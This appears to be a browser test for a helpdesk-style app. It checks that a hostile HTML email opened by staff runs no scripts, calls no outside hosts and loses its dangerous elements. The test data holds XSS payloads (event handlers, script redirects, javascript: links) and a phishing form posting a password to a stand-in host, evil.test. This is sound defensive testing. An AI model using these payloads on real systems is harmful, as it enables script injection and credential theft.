"""A mail that wants to run, to phone home and to take the page over, opened by somebody who knows nothing of it."""

from __future__ import annotations

import pytest
from playwright.sync_api import expect

from tests.browser.at_the_desk import open_case

HOSTILE = """<html><body onload="alert(1)"><p>Dear friend, <b>look</b></p>
<script>parent.location='http://evil.test/'; alert(2)</script><img src="http://evil.test/pixel.png" onerror="alert(3)">
<svg onload="alert(4)"></svg><a href="javascript:alert(5)">here</a><iframe src="http://evil.test/frame"></iframe>
<form action="http://evil.test/steal"><input name="password"><button>Sign in</button></form>
<style>body{background:url(http://evil.test/style.png)}</style><meta http-equiv="refresh" content="0;url=http://evil.test/away">
</body></html>"""


@pytest.mark.reliability("E3")
def test_nothing_of_a_hostile_mail_runs_or_reaches_the_network(house, enter):
    sara = enter("english")
    asked: list[str] = []
    dialogs: list[str] = []
    sara.page.on("request", lambda request: None if request.url.startswith(sara.base) else asked.append(request.url))
    sara.page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page = open_case(
        house, sara, name="Friend", address="hostile@customer.example", subject="Win a chair", text="Dear friend, look", html=HOSTILE
    )
    page.locator("details.as-sent summary").click()
    frame = page.frame_locator("details.as-sent iframe")
    expect(frame.locator("b")).to_have_text("look")
    page.wait_for_timeout(500)
    left = [frame.locator(name).count() for name in ("script", "form", "input", "iframe", "svg", "meta[http-equiv]", "a[href^=javascript]")]
    assert (dialogs, [url for url in asked if not url.startswith("data:")], left) == ([], [], [0] * 7)
    assert sara.path.startswith("/cases/")
    sara.look()
